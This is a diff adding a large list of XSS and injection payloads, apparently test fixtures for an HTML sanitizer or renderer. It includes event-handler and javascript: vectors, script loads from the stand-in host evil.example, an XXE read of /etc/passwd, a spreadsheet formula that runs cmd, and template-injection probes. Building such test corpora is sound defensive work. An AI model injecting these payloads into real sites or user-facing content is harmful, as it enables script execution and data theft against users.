@@ -52,3 +52,158 @@ PAYLOADS = [
     "event|detention|inspection|occurred|confirmed|light",
     "cluster|99999|1|1|1|light",
 ]
+
+#: Further ones, four to an event: an address that runs, and what would be markup.
+GROUPS = [
+    (
+        "javascript://%0awindow.pwned=1",
+        "<svg/onload=window.pwned=1>",
+        "<svg><a xlink:href=javascript:window.pwned=1><text y=20>x</text></a></svg>",
+        "<svg><set attributeName=onmouseover to=window.pwned=1>",
+    ),
+    (
+        "JAVASCRIPT&colon;window.pwned=1",
+        "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'>"
+        '<image href=1 onerror=window.pwned=1 /></svg>#x">',
+        "<svg><foreignObject><iframe srcdoc='<script>parent.pwned=1</script>'></foreignObject></svg>",
+        "<math href=javascript:window.pwned=1>x</math>",
+    ),
+    (
+        "javascript:/*--></title></style></textarea></script><svg onload=window.pwned=1>",
+        "<math><maction actiontype=statusline xlink:href=javascript:window.pwned=1>x</maction></math>",
+        '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">',
+        "<template><img src=x onerror=window.pwned=1></template>",
+    ),
+    (
+        "java\nscript:window.pwned=1",
+        "<textarea></textarea><img src=x onerror=window.pwned=1>",
+        "<title></title><img src=x onerror=window.pwned=1>",
+        "<xmp><img src=x onerror=window.pwned=1></xmp>",
+    ),
+    (
+        "\u2028javascript:window.pwned=1",
+        "<plaintext><img src=x onerror=window.pwned=1>",
+        "<select><option><img src=x onerror=window.pwned=1></select>",
+        "<table><td background=http://evil.example/x.png>",
+    ),
+    (
+        "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='window.pwned=1'/>",
+        "<marquee onstart=window.pwned=1>",
+        "<audio src=x onerror=window.pwned=1>",
+        "<picture><source srcset=http://evil.example/x.png><img></picture>",
+    ),
+    (
+        "data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9MTwvc2NyaXB0Pg==",
+        "<img srcset='http://evil.example/x.png 1x'>",
+        "<img src=x:x onerror\n=\nwindow.pwned=1>",
+        "<img/src=x/onerror=window.pwned=1>",
+    ),
+    (
+        "blob:http://evil.example/1",
+        "<IMG SRC=x OnErRoR=window.pwned=1>",
+        "<img src=`x`onerror=window.pwned=1>",
+        "<img \x0bsrc=x \x0bonerror=window.pwned=1>",
+    ),
+    (
+        "filesystem:http://evil.example/x",
+        '<img src=x onerror="window&#46;pwned=1">',
+        '<a href="#" ping=http://evil.example/>x</a>',
+        "<button formaction=javascript:window.pwned=1>x</button>",
+    ),
+    (
+        "view-source:http://evil.example/",
+        "<isindex action=javascript:window.pwned=1 type=image>",
+        "<input type=image src=http://evil.example/x.png>",
+        "<keygen autofocus onfocus=window.pwned=1>",
+    ),
+    (
+        "file:///etc/passwd",
+        "<body background=http://evil.example/x.png>",
+        "<p style=background:url(http://evil.example/x.png)>x</p>",
+        "<p style=animation-name:x onanimationstart=window.pwned=1>",
+    ),
+    (
+        "//evil.example/x",
+        "<div contenteditable onblur=window.pwned=1 autofocus>x</div>",
+        "<x onclick=window.pwned=1 tabindex=1 id=x>x</x>#x",
+        "<script src=http://evil.example/x.js></script>",
+    ),
+    (
+        "\\\\evil.example\\x",
+        "<script type=module>import 'http://evil.example/x.js'</script>",
+        '<script type=importmap>{"imports":{}}</script>',
+        "<link rel=modulepreload href=http://evil.example/x.js>",
+    ),
+    (
+        "http:evil.example",
+        "<link rel=manifest href=http://evil.example/m.json>",
+        "<portal src=http://evil.example/>",
+        "<frameset onload=window.pwned=1>",
+    ),
+    (
+        "https://evil.example@127.0.0.1/",
+        "<object type=text/x-scriptlet data=http://evil.example/x></object>",
+        '<!--<img src="--><img src=x onerror=window.pwned=1//">',
+        "<![CDATA[<img src=x onerror=window.pwned=1>]]>",
+    ),
+    (
+        "http://evil.example/#:~:text=<script>",
+        "<?xml-stylesheet href=javascript:window.pwned=1?>",
+        "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
+        "&e;&#0;&#xD800;&notanentity;",
+    ),
+    (
+        "mailto:x@evil.example?body=<script>",
+        "&lt;script&gt;window.pwned=1&lt;/script&gt;",
+        '"}],"x":[{"y":"</script><script>window.pwned=1</script>',
+        '\\"});window.pwned=1;//',
+    ),
+    (
+        "tel:<script>window.pwned=1</script>",
+        "';window.pwned=1;'",
+        "\u2028window.pwned=1\u2029",
+        "*/window.pwned=1/*",
+    ),
+    (
+        "feed:javascript:window.pwned=1",
+        "#{7*7}",
+        "<%= 7*7 %>",
+        "{{7*7}}",
+    ),
+    (
+        "jar:javascript:window.pwned=1!/",
+        "{%25 raw %}{{ config }}{% endraw %}",
+        "[[${7*7}]]",
+        "@import 'http://evil.example/x.css';",
+    ),
+    (
+        "ws://evil.example/",
+        "}</style><script>window.pwned=1</script>",
+        "x;background:url(//evil.example/x)",
+        '=HYPERLINK("http://evil.example","x")',
+    ),
+    (
+        "about:blank#<script>window.pwned=1</script>",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\u202etxt.exe\u202c",
+        "\u200b\u200d\ufe0f\u0301\u0301\u0301\u0301",
+    ),
+    (
+        "http://[::1]/<script>window.pwned=1</script>",
+        "\ufffd\ufffe",
+        "ﬁ<ſcript>window.pwned=1</ſcript>",
+        "＜script＞window.pwned=1＜/script＞",
+    ),
+    (
+        'http://xn--/"onmouseover=window.pwned=1',
+        "%00<script>window.pwned=1</script>",
+        "<a name=status><a name=list><form id=list><input name=children>",
+        "<img name=getElementById><img id=documentElement>",
+    ),
+    (
+        "javascript\x00:window.pwned=1",
+        "<form name=body><input name=firstChild></form>",
+        "<b id=map><b id=card><b id=count>",
+        "hasOwnProperty",
+    ),
+]
